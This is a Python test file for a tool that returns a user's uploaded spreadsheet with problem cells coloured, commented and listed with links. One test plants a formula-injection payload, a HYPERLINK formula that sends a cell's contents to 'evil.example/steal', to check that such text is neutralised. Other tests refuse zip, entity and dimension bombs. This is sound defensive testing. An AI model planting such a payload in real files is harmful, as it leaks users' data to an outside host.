"""The error workbook: the user's own file back with each problem cell coloured and commented, a first sheet
listing the problems with links, nothing else changed, and no way for a hostile upload to harm the server."""

from __future__ import annotations

import re
import time
import zipfile
from datetime import date
from io import BytesIO
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.styles import Font

from pmo_core import importer
from pmo_core.annotate import ERROR_FILL, WARNING_FILL, annotated_name, annotated_workbook, is_summary_sheet
from pmo_core.i18n import t
from pmo_core.issues import ERROR, WARNING, Issue
from pmo_core.reading import Sheet, UnreadableFile
from tests.hostile_files import build_corpus

AS_OF = date(2026, 10, 31)
LIMIT_S = 15  # seconds; the first call also starts the sandbox's fork server
RED, YELLOW = ERROR_FILL.fgColor.rgb, WARNING_FILL.fgColor.rgb
EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"Cliquez ici")'
PROJECT_HEADERS = [
    "Code projet",
    "Intitulé",
    "Chef de projet",
    "Date de début",
    "Fin prévue",
    "Budget initial",
    "Météo",
]
# The problems planted in french_tracker, at the cells Excel shows (worked out from the rows written below).
PLANTED = {
    ("Projets", "F4"): "not_a_number",  # "cent mille" in the budget
    ("Projets", "E3"): "end_before_start",  # ends 1 Feb, starts 1 Mar
    ("Projets", "A2"): "duplicate_project_code",  # PRJ-001, first occurrence
    ("Projets", "A5"): "duplicate_project_code",  # PRJ-001 again
    ("Risques", "A3"): "project_unknown",  # PRJ-999 is in neither the file nor the store
}


def french_tracker(path: Path) -> Path:
    """Write a French tracker with four kinds of mistake, some formatting, and a sheet that is not a table."""
    workbook = Workbook()
    projects = workbook.active
    projects.title = "Projets"
    projects.append(PROJECT_HEADERS)
    projects.append(["PRJ-001", "Refonte SI", "Alice", date(2026, 1, 5), date(2026, 12, 31), 120000, "Vert"])
    projects.append(
        ["PRJ-002", "Migration cloud", "Bob", date(2026, 3, 1), date(2026, 2, 1), 80000, "Orange"]
    )
    projects.append(
        ["PRJ-003", "Portail client", "Chloé", date(2026, 2, 1), date(2026, 9, 30), "cent mille", "Rouge"]
    )
    projects.append(["PRJ-001", "Archivage", "Denis", date(2026, 1, 5), date(2026, 6, 30), 1000, "Vert"])
    for cell in projects[1]:
        cell.font = Font(bold=True)
    for row in range(2, 6):
        projects.cell(row=row, column=6).number_format = "#,##0 €"
    projects.column_dimensions["B"].width = 30
    projects["G2"].comment = Comment("Validé en comité", "Alice")
    risks = workbook.create_sheet("Risques")
    risks.append(["Code projet", "Risque", "Probabilité", "Impact", "Propriétaire"])
    risks.append(["PRJ-001", "Retard fournisseur", 3, 4, "Alice"])
    risks.append(["PRJ-999", "Budget non voté", 2, 2, "Bob"])
    notes = workbook.create_sheet("Notes")
    notes["A1"] = "Relu par le PMO"
    notes["B3"] = "=1+1"
    workbook.save(path)
    return path


def import_issues(con, path: Path, name: str) -> list[Issue]:
    """Run the real importer on a file and return the problems of its plan."""
    reads = importer.read_files([(path, name)], importer.ReadOptions())
    return importer.build_plan(con, reads, scope="partial", as_of=AS_OF).issues


def open_xlsx(data: bytes):
    return load_workbook(BytesIO(data), rich_text=True)


def marked_cells(workbook) -> dict[tuple[str, str], object]:
    """Return every cell of the data sheets that carries our fill, or a note, by (sheet, address)."""
    summary = workbook.worksheets[0].title
    found = {}
    for sheet in workbook.worksheets:
        if sheet.title == summary:
            continue
        for row in sheet.iter_rows():
            for cell in row:
                if cell.comment is not None or cell.fill.fgColor.rgb in (RED, YELLOW):
                    found[(sheet.title, cell.coordinate)] = cell
    return found


def note_sizes(data: bytes) -> list[tuple[int, int]]:
    """Return the (width, height) in pixels of every note we drew, from the sheets' VML drawings."""
    sizes = []
    with zipfile.ZipFile(BytesIO(data)) as archive:
        for name in sorted(n for n in archive.namelist() if n.endswith(".vml")):
            text = archive.read(name).decode()
            sizes += [(int(w), int(h)) for w, h in re.findall(r"width:(\d+)px;height:(\d+)px", text)]
    return sizes


def summary_rows(workbook) -> list[list]:
    """Return the problem list below its header row (row 4)."""
    return [list(row) for row in workbook.worksheets[0].iter_rows(min_row=5, values_only=True)]


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> dict[str, Path]:
    return build_corpus(tmp_path_factory.mktemp("hostile"))


@pytest.fixture
def tracker(tmp_path, con):
    path = french_tracker(tmp_path / "stored-upload-7f3a")  # the Import page stores uploads under their hash
    issues = import_issues(con, path, "suivi_portefeuille.xlsx")
    return path, issues


def test_the_importer_finds_the_planted_problems(tracker):
    _, issues = tracker
    found = {(i.sheet, f"{chr(65 + i.col_index)}{i.row}"): i.code for i in issues}
    assert found == PLANTED


def test_each_problem_cell_is_coloured_and_explained_in_french(tracker):
    path, issues = tracker
    data = annotated_workbook(path, "suivi_portefeuille.xlsx", issues, lang="fr")
    workbook = open_xlsx(data)
    cells = marked_cells(workbook)
    # Exactly the planted cells, plus G2 which keeps the user's own note untouched.
    assert set(cells) == set(PLANTED) | {("Projets", "G2")}
    for where in PLANTED:
        cell = cells[where]
        assert cell.fill.fgColor.rgb == RED
        assert cell.border.left.style == "medium"
        assert cell.comment.author == "PMO"
    # openpyxl does not read a note's size back, the VML drawing says it: ours are 360 px wide and at least
    # 24 + 16 px x 4 lines tall ("PMO:", a sentence on two lines, the value), beside the user's default-sized one.
    ours = [size for size in note_sizes(data) if size != (144, 79)]
    assert len(ours) == 5 and all(width == 360 and height >= 88 for width, height in ours)
    budget = cells[("Projets", "F4")].comment.text.replace("\u00a0", " ")  # French no-break spaces as spaces
    assert "Erreur : « cent mille » n'est pas un nombre" in budget
    assert "Valeur lue : « cent mille »" in budget
    assert "précède la date de début 2026-03-01" in cells[("Projets", "E3")].comment.text
    assert "« PRJ-999 » n'est ni un projet de cet import" in cells[("Risques", "A3")].comment.text.replace(
        "\u00a0", " "
    )
    assert "apparaît plusieurs fois (aussi ligne 2)" in cells[("Projets", "A5")].comment.text
    own = cells[("Projets", "G2")]
    assert (own.comment.text, own.comment.author, own.fill.fgColor.rgb) == (
        "Validé en comité",
        "Alice",
        "00000000",
    )


def test_the_first_sheet_lists_every_problem_with_a_link_to_its_cell(tracker):
    path, issues = tracker
    workbook = open_xlsx(annotated_workbook(path, "suivi_portefeuille.xlsx", issues, lang="fr"))
    summary = workbook.worksheets[0]
    assert summary.title == "Problèmes"
    assert workbook.active.title == "Problèmes"
    assert summary["A1"].value == "Problèmes trouvés dans suivi_portefeuille.xlsx"
    assert summary["A2"].value.startswith("5 erreurs et 0 avertissement.")
    assert [c.value for c in summary[4]] == [
        "Gravité",
        "Feuille",
        "Cellule",
        "Colonne",
        "Valeur lue",
        "Ce qui ne va pas",
    ]
    rows = summary_rows(workbook)
    assert [(r[0], r[1], r[2], r[3], r[4]) for r in rows] == [
        # Sorted by sheet, row and column; all are errors.
        ("Erreur", "Projets", "A2", "Code projet", "PRJ-001"),
        ("Erreur", "Projets", "E3", "Fin prévue", "2026-02-01"),
        ("Erreur", "Projets", "F4", "Budget initial", "cent mille"),
        ("Erreur", "Projets", "A5", "Code projet", "PRJ-001"),
        ("Erreur", "Risques", "A3", "Code projet", "PRJ-999"),
    ]
    assert rows[2][5] == next(i for i in issues if i.code == "not_a_number").sentence("fr")
    links = [summary.cell(row=n, column=3).hyperlink for n in range(5, 10)]
    assert [link.location for link in links] == [
        "'Projets'!A2",
        "'Projets'!E3",
        "'Projets'!F4",
        "'Projets'!A5",
        "'Risques'!A3",
    ]
    assert summary.freeze_panes == "A5"


def test_values_formats_and_other_sheets_are_kept(tracker):
    path, issues = tracker
    original = open_xlsx(path.read_bytes())
    workbook = open_xlsx(annotated_workbook(path, "suivi_portefeuille.xlsx", issues, lang="fr"))
    assert workbook.sheetnames == ["Problèmes", "Projets", "Risques", "Notes"]
    for sheet in original.worksheets:
        copy = workbook[sheet.title]
        assert [[c.value for c in row] for row in copy.iter_rows()] == [
            [c.value for c in row] for row in sheet.iter_rows()
        ]
    projects = workbook["Projets"]
    assert projects["A1"].font.bold and projects["F3"].number_format == "#,##0 €"
    assert projects.column_dimensions["B"].width == 30
    assert workbook["Notes"]["B3"].value == "=1+1"  # the user's own formula is still a formula
    assert all(not sheet.sheet_view.tabSelected for sheet in workbook.worksheets[1:])


def test_the_corrected_workbook_imports_cleanly_and_a_second_round_starts_afresh(tracker, con, tmp_path):
    path, issues = tracker
    workbook = open_xlsx(annotated_workbook(path, "suivi_portefeuille.xlsx", issues, lang="fr"))
    projects = workbook["Projets"]
    projects["F4"] = 100000
    projects["E3"] = date(2026, 8, 31)
    projects["A5"] = "PRJ-004"
    workbook["Risques"]["A3"] = "PRJ-002"
    workbook["Risques"]["C3"] = "six"  # a new mistake, found in the second round
    corrected = tmp_path / "corrected.xlsx"
    workbook.save(corrected)
    # The problem list is not read as a table: only the new mistake is reported.
    second = import_issues(con, corrected, "suivi_portefeuille_a_corriger.xlsx")
    assert [(i.sheet, i.row, i.col_index, i.value) for i in second] == [("Risques", 3, 2, "six")]
    again = open_xlsx(annotated_workbook(corrected, "suivi_portefeuille_a_corriger.xlsx", second, lang="fr"))
    assert again.sheetnames == ["Problèmes", "Projets", "Risques", "Notes"]
    assert set(marked_cells(again)) == {("Risques", "C3"), ("Projets", "G2")}
    assert [r[2] for r in summary_rows(again)] == ["C3"]
    assert again["Projets"]["F4"].fill.fgColor.rgb == "00000000"


def test_only_our_problem_list_is_taken_for_one():
    header = ["Gravité", "Feuille", "Cellule", "Colonne", "Valeur lue", "Ce qui ne va pas"]
    title = ["Problèmes trouvés dans x.xlsx"] + [None] * 5
    ours = pd.DataFrame([title, [None] * 6, [None] * 6, header], index=range(1, 5)).astype("string")
    assert is_summary_sheet(Sheet("Problèmes", True, ours))
    blanks = pd.DataFrame([["a", None, None, None, None, None]] * 4, index=range(1, 5)).astype("string")
    assert not is_summary_sheet(Sheet("Problèmes", True, blanks))
    assert not is_summary_sheet(Sheet("Problèmes", True, pd.DataFrame(index=pd.RangeIndex(1, 1))))


def test_annotated_names():
    assert annotated_name("budget.xlsx", "en") == "budget_annotated.xlsx"
    assert annotated_name("budget.xlsx", "fr") == "budget_a_corriger.xlsx"
    assert annotated_name("export.projets.csv", "en") == "export.projets_annotated.xlsx"
    assert annotated_name("suivi.xlsm", "fr") == "suivi_a_corriger.xlsx"


def test_where_each_kind_of_problem_goes(tmp_path):
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Data"
    sheet.append(["Code", "Budget", "Owner"])
    sheet.append([None, "12", "Ann"])  # row 2: first used cell is B2
    sheet.append(["P2", "13", "Bob"])
    path = tmp_path / "data.xlsx"
    workbook.save(path)
    issues = [
        Issue(WARNING, "score_recomputed", "data.xlsx", "Data", 3, "Budget", 1, "13", {"score": 12}),
        Issue(ERROR, "not_a_number", "data.xlsx", "Data", 3, "Budget", 1, "13"),
        Issue(ERROR, "project_reference_missing", "data.xlsx", "Data", 2),
        Issue(WARNING, "score_recomputed", "data.xlsx", "Data", 3, "Owner", 2, "Bob", {"score": 1}),
        Issue(ERROR, "required_column_missing", "data.xlsx", "Data", None, "Risk", params={"field": "title"}),
        Issue(WARNING, "no_table_recognised", "data.xlsx"),
        Issue(ERROR, "not_a_number", "other.xlsx", "Data", 3, "Owner", 2, "Bob"),
    ]
    result = open_xlsx(annotated_workbook(path, "data.xlsx", issues, lang="en"))
    cells = marked_cells(result)
    assert set(cells) == {("Data", "B2"), ("Data", "B3"), ("Data", "C3")}
    # Two problems on one cell: one note listing both, errors first, in the colour of the worse.
    both = cells[("Data", "B3")]
    assert both.fill.fgColor.rgb == RED
    assert both.comment.text.index("Error: “13” is not a number") < both.comment.text.index(
        "Warning: The written"
    )
    assert both.comment.text.count("Value read: “13”") == 2
    warning = cells[("Data", "C3")]
    assert warning.fill.fgColor.rgb == YELLOW and warning.border.left.style is None
    assert "Value read" not in cells[("Data", "B2")].comment.text  # no value to show
    rows = summary_rows(result)
    assert [(r[0], r[1], r[2]) for r in rows] == [
        (
            "Error",
            "Data",
            None,
        ),  # the missing column: nothing to colour, listed first among its sheet's errors
        ("Error", "Data", "B2"),
        ("Error", "Data", "B3"),
        ("Warning", "(whole file)", None),
        ("Warning", "Data", "B3"),
        ("Warning", "Data", "C3"),
    ]
    summary = result.worksheets[0]
    assert summary["B5"].hyperlink.location == "'Data'!A1"  # the missing column links to its sheet
    assert summary["B8"].hyperlink is None and summary["C8"].hyperlink is None


def test_a_cp1252_csv_comes_back_as_an_annotated_xlsx(tmp_path, con):
    path = tmp_path / "budget.csv"
    path.write_bytes(
        "Code projet;Intitulé;Budget initial\nPRJ-1;Réseau;1 200\nPRJ-2;Sécurité;beaucoup\n"
        "PRJ-3;Données;300\n".encode("cp1252")
    )
    issues = import_issues(con, path, "budget.csv")
    assert [(i.code, i.sheet, i.row, i.col_index) for i in issues] == [("not_a_number", "budget", 3, 2)]
    data = annotated_workbook(path, "budget.csv", issues, lang="fr")
    assert data[:2] == b"PK"
    workbook = open_xlsx(data)
    assert workbook.sheetnames == ["Problèmes", "budget"]
    sheet = workbook["budget"]
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["Code projet", "Intitulé", "Budget initial"],
        ["PRJ-1", "Réseau", "1 200"],  # the file's own spelling: only plain numbers become numbers
        ["PRJ-2", "Sécurité", "beaucoup"],
        ["PRJ-3", "Données", 300],
    ]
    assert set(marked_cells(workbook)) == {("budget", "C3")}
    assert "Valeur lue\u00a0: «\u00a0beaucoup\u00a0»" in sheet["C3"].comment.text
    assert workbook.worksheets[0]["C5"].hyperlink.location == "'budget'!C3"


@pytest.mark.parametrize(
    ("name", "sheet", "kept"),
    [
        ("legacy.xls", "Projets", 1250.5),
        ("calc.ods", "Projets", 12.5),
        ("utf8_comma.csv", "utf8_comma", "Refonte, phase 2"),
    ],
)
def test_formats_openpyxl_cannot_open_are_rebuilt_then_annotated(corpus, name, sheet, kept):
    path = corpus[name]
    issue = Issue(ERROR, "not_a_number", name, sheet, 2, "B", 1, str(kept))
    workbook = open_xlsx(annotated_workbook(path, name, [issue]))
    assert workbook[sheet]["B2"].value == kept
    assert set(marked_cells(workbook)) == {(sheet, "B2")}
    if name == "legacy.xls":
        assert workbook["Cachée"].sheet_state == "hidden"


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_formula_text_is_neutralised_everywhere(tmp_path, con, kind):
    if kind == "xlsx":
        workbook = Workbook()
        workbook.active.append(["Code projet", "Intitulé", "Budget initial"])
        workbook.active.append(["PRJ-1", "Réseau", EVIL])
        workbook.active["C2"].data_type = "s"  # stored as text, the way a pasted value arrives
        path = tmp_path / "evil.xlsx"
        workbook.save(path)
    else:
        path = tmp_path / "evil.csv"
        path.write_text(
            f'Code projet;Intitulé;Budget initial\nPRJ-1;Réseau;"{EVIL.replace(chr(34), 2 * chr(34))}"\n',
            encoding="utf-8",
        )
    issues = import_issues(con, path, path.name)
    assert [(i.code, i.value) for i in issues] == [("not_a_number", EVIL)]
    result = open_xlsx(annotated_workbook(path, path.name, issues))
    cells = [cell for sheet in result.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert result.worksheets[0]["E5"].value == "'" + EVIL
    assert EVIL in result.worksheets[0]["F5"].value  # the sentence quotes it, after other words
    assert not result.worksheets[0]["F5"].value.startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("zip_bomb.xlsx", "zip_bomb"),
        ("entity_bomb.xlsx", "xml_entities"),
        ("dimension_bomb.xlsx", "too_many_rows"),
        ("huge_range_no_dimension.xlsx", "too_many_rows"),
        ("malformed_sheet.xlsx", "corrupt_workbook"),
        ("png_named_xlsx.xlsx", "not_a_workbook"),
        ("password_protected.xlsx", "password_protected"),
    ],
)
def test_a_hostile_file_gives_a_clear_refusal_in_seconds(corpus, name, code):
    path = corpus[name]
    started = time.monotonic()
    with pytest.raises(UnreadableFile) as refused:
        annotated_workbook(path, name, [Issue(ERROR, "not_a_number", name, "Sheet1", 2, "B", 1, "x")])
    assert refused.value.code == code
    assert time.monotonic() - started < LIMIT_S
    assert t(f"issue.{code}", "fr") != f"issue.{code}"


def test_a_file_that_is_gone_gives_a_clear_refusal(tmp_path):
    with pytest.raises(UnreadableFile) as refused:
        annotated_workbook(tmp_path / "deleted", "budget.xlsx", [])
    assert refused.value.code == "file_missing"
    assert "upload it again" in t("issue.file_missing", "en")
    assert "importez-le de nouveau" in t("issue.file_missing", "fr")
